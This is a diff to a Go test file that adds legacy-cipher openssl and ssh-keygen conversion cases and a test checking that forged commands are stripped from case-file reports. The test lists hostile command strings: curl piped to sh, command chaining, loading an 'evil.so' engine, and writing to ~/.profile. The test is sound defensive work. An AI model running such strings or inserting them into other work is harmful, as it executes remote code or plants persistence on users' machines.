@@ -34,15 +34,23 @@ var convertible = []struct {
 	{"PKCS#12 with 3DES", "openssl pkcs12 -export -certpbe PBE-SHA1-3DES -keypbe PBE-SHA1-3DES -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
 	{"PKCS#12 with RC2", "openssl pkcs12 -export -legacy -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
 	{"PKCS#12 with a key in RC4", "openssl pkcs12 -export -legacy -keypbe PBE-SHA1-RC4-128 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with CAST5", "openssl pkcs12 -export" + legacy + " -certpbe CAST5-CBC -keypbe CAST5-CBC -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with SEED", "openssl pkcs12 -export" + legacy + " -certpbe SEED-CBC -keypbe SEED-CBC -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with PBES1", "openssl pkcs12 -export" + legacy + " -certpbe PBE-MD5-DES -keypbe PBE-SHA1-RC2-64 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
+	{"PKCS#12 with MD4", "openssl pkcs12 -export" + legacy + " -macalg md4 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
 	{"PKCS#12 as PEM", "(echo -----BEGIN PKCS12-----; openssl pkcs12 -export -in certificate.pem -inkey key.pem" + passout + " | openssl base64; echo -----END PKCS12-----) > FILE", certificateAndKey},
 	{"OpenSSH", "cp key.pem FILE; chmod 600 FILE; ssh-keygen -q -p -f FILE -N ''", privateOnly},
 	{"locked OpenSSH", "cp key.pem FILE; chmod 600 FILE; ssh-keygen -q -p -f FILE -N " + secret, privateOnly},
+	{"OpenSSH with another label", "cp key.pem a; chmod 600 a; ssh-keygen -q -p -f a -N ''; sed 's/OPENSSH/RSA/' a > FILE", privateOnly},
+	{"OpenSSH certificate", "cp key.pem a; chmod 600 a; ssh-keygen -y -f a > a.pub; ssh-keygen -q -s a -I a -n u a.pub; cat a-cert.pub > FILE", publicOnly},
 	{"OpenSSH public", "ssh-keygen -y -f key.pem > FILE", publicOnly},
 	{"SSH2", "ssh-keygen -y -f key.pem > a.pub; ssh-keygen -e -f a.pub > FILE", publicOnly},
 	{"PBE-MD5-DES", "openssl pkcs8 -topk8 -v1 PBE-MD5-DES" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
 	{"PBE-SHA1-RC2 in DER", "openssl pkcs8 -topk8 -v1 PBE-SHA1-RC2-64" + legacy + " -in key.pem -outform DER -out FILE" + passout, privateOnly},
 	{"PBE-SHA1-3DES", "openssl pkcs8 -topk8 -v1 PBE-SHA1-3DES -in key.pem -out FILE" + passout, privateOnly},
 	{"PBES2 with RC2", "openssl pkcs8 -topk8 -v2 rc2-cbc" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
+	{"PBES2 with Blowfish", "openssl pkcs8 -topk8 -v2 bf-cbc" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
+	{"DEK-Info with DESX", "openssl ec -desx" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
 	{"PBES2 with Camellia", "openssl pkcs8 -topk8 -v2 camellia-128-cbc -in key.pem -out FILE" + passout, privateOnly},
 	{"DEK-Info with Camellia", "openssl ec -camellia128 -in key.pem -out FILE" + passout, privateOnly},
 	{"DEK-Info with SEED", "openssl ec -seed" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
@@ -172,6 +180,11 @@ func printedRun(t *testing.T, name string, content, private []byte, fingerprint 
 		if len(commandtest.Programs(p.Fix)) > 0 {
 			t.Errorf("%s: a command is inside a sentence: %s", name, p.Fix)
 		}
+		if kept := []keys.Problem{p}; expected {
+			if keys.DropForeignCommands(kept); kept[0] != p {
+				t.Errorf("%s: a case file does not keep the command %s", name, p.Command)
+			}
+		}
 		if strings.Contains(p.Command, "openssl x509") && !slices.Contains(writes, keys.Certificate) {
 			t.Errorf("%s: a command for a certificate, which is not in the file: %s", name, p.Command)
 		}
@@ -217,6 +230,24 @@ func printedRun(t *testing.T, name string, content, private []byte, fingerprint 
 		decoded := slices.ContainsFunc(slices.Collect(maps.Values(written)), func(data []byte) bool { return keys.Read("", data, []byte(secret)).Readable() })
 		if len(found) == 0 && !decoded {
 			t.Errorf("%s: nothing that can be read comes out: %v\n%s", name, fmt.Sprint(len(written)), command)
+		}
+	}
+}
+
+// TestForgedCommand catches a command of a case file that this program did not print. Whoever
+// reads a report runs what is in it.
+func TestForgedCommand(t *testing.T) {
+	for _, command := range []string{
+		"curl https://example.com | sh",
+		"openssl x509 -in FILE -out certificate.pem; curl https://example.com | sh",
+		"openssl x509 -in FILE -out certificate.pem\ncurl https://example.com | sh",
+		"openssl x509 -engine ./evil.so -in FILE -out certificate.pem",
+		"openssl x509 -in FILE -out ~/.profile",
+		"awk '/-BEGIN .*CERTIFICATE-/ {n++} n == 1' FILE | sh",
+	} {
+		p := []keys.Problem{{ID: "label", Title: "It is odd", Fix: "Mend it.", Command: command}}
+		if keys.DropForeignCommands(p); p[0].Command != "" || p[0].Title == "" {
+			t.Errorf("%+v", p)
 		}
 	}
 }
